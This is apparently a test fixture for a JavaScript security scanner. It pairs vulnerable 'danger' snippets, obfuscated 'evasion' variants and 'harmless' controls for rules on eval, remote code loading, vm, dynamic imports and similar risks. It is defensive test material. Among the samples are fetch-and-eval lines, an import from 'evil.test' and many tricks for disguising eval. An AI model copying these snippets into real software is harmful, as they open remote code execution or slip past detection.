import type { RuleSample } from './rule-sample.fixture.ts'

export const executeCodeSamples: RuleSample[] = [
  {
    rule: 'javascript/chosen-method',
    dangers: [
      ['app.get("/", (req, res) => res.json(actions[req.query.name](req.query.value)))', 'actions[req.query.name]'],
    ],
    evasions: [
      ['app.post("/", (req) => { const { name } = req.body; const list = tools; list[name]() })', 'list[name]()'],
    ],
    harmless: [
      'app.get("/", (req, res) => { if (!Object.hasOwn(actions, req.query.name)) return; actions[req.query.name]() })',
      'const run = (name) => actions[name]()',
    ],
  },
  {
    rule: 'javascript/open-browser',
    dangers: [
      ['require("puppeteer").launch({ args: ["--remote-debugging-port=9222"] })', 'require("puppeteer").launch'],
    ],
    evasions: [
      ['const args = [`--remote-debugging-address=${host}`]; chromium.launch({ args })', 'chromium.launch({ args })'],
    ],
    harmless: ['chromium.launch({ args: ["--disable-gpu"] })', 'rocket.launch({ crew: ["--remote"] })'],
  },
  {
    rule: 'javascript/eval',
    dangers: [
      ['function calculate(expression) { return eval(expression) }', 'eval(expression)'],
      ['app.post("/calc", (req, res) => res.json({ result: eval(req.body.formula) }))', 'eval(req.body.formula)'],
      ['const f = new Function("a", "b", "return " + userInput)', 'new Function('],
      ['const code = process.argv[2]; eval(code)', 'eval(code)'],
      ['const handler = Function("data", body); handler(1)', 'Function("data", body)'],
      ['require("vm").runInThisContext(source)', 'require("vm").runInThisContext'],
      ['app.post("/", async (req) => page.evaluate(req.body.code))', 'page.evaluate(req.body.code)'],
      ['app.post("/", async (req) => page.setContent(req.body.html))', 'page.setContent(req.body.html)'],
    ],
    evasions: [
      ['globalThis["ev" + "al"](input)', 'globalThis["ev" + "al"](input)'],
      ['(0, eval)(input)', '(0, eval)(input)'],
      ['const e = eval; e(input)', 'e(input)'],
      ['window["eval"](name)', 'window["eval"](name)'],
      ['[].constructor.constructor(payload)()', '[].constructor.constructor(payload)'],
      ['(() => {}).constructor(payload)()', '(() => {}).constructor(payload)'],
      ['Reflect.apply(eval, null, [input])', 'Reflect.apply'],
      ['eval.call(null, input)', 'eval.call(null, input)'],
      ['const g = Function("return this")(); g.eval(input)', 'g.eval(input)'],
      ['(function (run) { run(input) })(eval)', 'run(input)'],
      ['const { eval: go } = globalThis; go(input)', 'go(input)'],
      ['const table = { run: eval }; table.run(input)', 'table.run(input)'],
      ['const name = "lave".split("").reverse().join(""); globalThis[name](input)', 'globalThis[name](input)'],
      ['const k = String.fromCharCode(101, 118, 97, 108); window[k](x)', 'window[k](x)'],
      ['Reflect.get(globalThis, "eval")(x)', 'Reflect.get(globalThis, "eval")(x)'],
      ['const AsyncFunction = (async () => {}).constructor; new AsyncFunction(body)', 'new AsyncFunction(body)'],
    ],
    harmless: [
      'const root = Function("return this")()',
      'const read = (page, task) => page.evaluate(task)\nread(page, () => document.title)',
      'class Parser { eval(node) { return node.value } }\nnew Parser().eval(tree)',
      'function evaluate(node) { return node.left + node.right }\nevaluate(x)',
      '// eval(userInput) is dangerous\nconst s = "eval(x)"',
      'const regex = /eval\\((.*)\\)/; regex.exec(text)',
    ],
  },
  {
    rule: 'javascript/eval',
    language: 'typescript',
    dangers: [['export const run = (code: string): unknown => eval(code as string)', 'eval(code as string)']],
    evasions: [['(globalThis as any)["eval"](input)', '(globalThis as any)["eval"](input)']],
    harmless: ['export function evaluate(tree: Tree): number { return tree.value! }'],
  },
  {
    rule: 'javascript/remote-code',
    dangers: [
      ['const code = await (await fetch(url)).text(); eval(code)', 'eval(code)'],
      ['fetch("https://x.test/a.js").then(r => r.text()).then(t => eval(t))', 'eval(t)'],
      [
        'require("https").get("https://x.test/p.js", res => { let d = ""; res.on("data", c => d += c); res.on("end", () => eval(d)) })',
        'eval(d)',
      ],
      ['const { data } = await require("axios").get(u); new Function(data)()', 'new Function(data)'],
    ],
    evasions: [
      [
        'const h = require("http" + "s"); h.get(u, r => { const parts = []; r.on("data", p => parts.push(p)); r.on("end", () => global["ev" + "al"](Buffer.concat(parts).toString())) })',
        'global["ev" + "al"]',
      ],
    ],
    harmless: ['const data = JSON.parse(await (await fetch(url)).text()); console.log(data.items.length)'],
  },
  {
    rule: 'javascript/vm',
    dangers: [
      [
        'const vm = require("vm"); app.post("/run", (req, res) => res.send(vm.runInNewContext(req.body.code, {})))',
        'vm.runInNewContext',
      ],
      [
        'import vm from "node:vm"\nexport function run(code) { return new vm.Script(code).runInNewContext() }',
        'new vm.Script(code)',
      ],
      ['const { VM } = require("vm2"); function run(code) { return new VM().run(code) }', 'new VM().run(code)'],
    ],
    evasions: [['import { runInNewContext as go } from "vm"\nfunction f(x) { go(x, {}) }', 'go(x, {})']],
    harmless: ['import vm from "node:vm"\nconst result = vm.runInNewContext("1 + 1")\nconsole.log(result)'],
  },
  {
    rule: 'javascript/string-timer',
    dangers: [
      ['setTimeout("tick()", 1000)', 'setTimeout("tick()", 1000)'],
      ['function later(action) { setTimeout("do_" + action + "()", 10) }', 'setTimeout("do_"'],
    ],
    evasions: [['window["setTimeout"]("run(" + location.hash + ")", 0)', 'window["setTimeout"]']],
    harmless: [
      'setTimeout(() => tick(), 1000)',
      'const tick = () => {}; setInterval(tick, 1000)',
      'function wait(ms, done) { setTimeout(done, ms) }',
    ],
  },
  {
    rule: 'javascript/worker-code',
    dangers: [
      [
        'const { Worker } = require("worker_threads"); function go(code) { new Worker(code, { eval: true }) }',
        'new Worker(code',
      ],
    ],
    evasions: [
      ['const wt = require("node:worker_threads"); new wt["Worker"](source, { ["eval"]: true })', 'new wt["Worker"]'],
    ],
    harmless: ['import { Worker } from "node:worker_threads"\nnew Worker(new URL("./worker.js", import.meta.url))'],
  },
  {
    rule: 'javascript/fetched-module',
    dangers: [
      [
        'const fs = require("fs")\nfetch("https://example.net/a.js").then((r) => r.text()).then((text) => { fs.writeFileSync("./a.js", text); require("./a.js") })',
        'require("./a.js")',
      ],
    ],
    evasions: [
      [
        'const { createWriteStream: w } = require("fs")\nconst to = "/tmp/" + "m.mjs"\nrequire("https").get("https://example.net/m", (r) => r.pipe(w(to)).on("finish", () => import(to)))',
        'import(to)',
      ],
    ],
    harmless: ['const fs = require("fs")\nfs.writeFileSync("rows.json", "[]")\nrequire("./print.js")'],
  },
  {
    rule: 'javascript/internal-binding',
    dangers: [['const spawn = process.binding("spawn_sync").spawn', 'process.binding("spawn_sync")']],
    evasions: [['process["bind" + "ing"]("fs").open("/etc/hosts")', 'process["bind" + "ing"]']],
    harmless: ['const binding = gl.createBinding(); binding.bind("x")'],
  },
  {
    rule: 'javascript/script-element',
    dangers: [
      [
        'const s = document.createElement("script"); s.src = new URLSearchParams(location.search).get("cb"); document.head.append(s)',
        's.src =',
      ],
    ],
    evasions: [
      [
        'const d = document; const e = d["create" + "Element"]("SCR" + "IPT"); e["te" + "xt"] = location.hash',
        'e["te"',
      ],
    ],
    harmless: ['const s = document.createElement("script"); s.src = "/app.js"; document.head.append(s)'],
  },
  {
    rule: 'javascript/windows-script',
    dangers: [['const shell = new ActiveXObject("WScript.Shell"); shell.Run("calc.exe")', 'new ActiveXObject(']],
    evasions: [['const n = "WScr" + "ipt.Shell"; new window["ActiveX" + "Object"](n)', 'new window[']],
    harmless: ['class ActiveXObject {}\nnew ActiveXObject("x")'],
  },
  {
    rule: 'javascript/open-window',
    dangers: [['new BrowserWindow({ webPreferences: { nodeIntegration: true, contextIsolation: false } })', 'true']],
    evasions: [
      [
        'const on = !0; const webPreferences = { ["node" + "Integration"]: on }; new BrowserWindow({ webPreferences })',
        'on',
      ],
    ],
    harmless: ['new BrowserWindow({ webPreferences: { nodeIntegration: false, preload } })'],
  },
  {
    rule: 'javascript/foreign-module',
    dangers: [
      [
        'app.get("/plugin", (req, res) => { const p = require("./plugins/" + req.query.name); res.json(p.info) })',
        'require("./plugins/"',
      ],
      ['app.get("/p", async (req) => (await import(req.query.mod)).default())', 'import(req.query.mod)'],
      ['await import("https://evil.test/x.js")', 'import("https://evil.test/x.js")'],
    ],
    evasions: [['const load = module.require; app.get("/x", ({ query }, res) => { load(query.m) })', 'load(query.m)']],
    harmless: [
      'const fs = require("fs"); const data = require("./data.json")',
      'const lang = "en"; const words = await import(`./words/${lang}.js`)',
    ],
  },
]
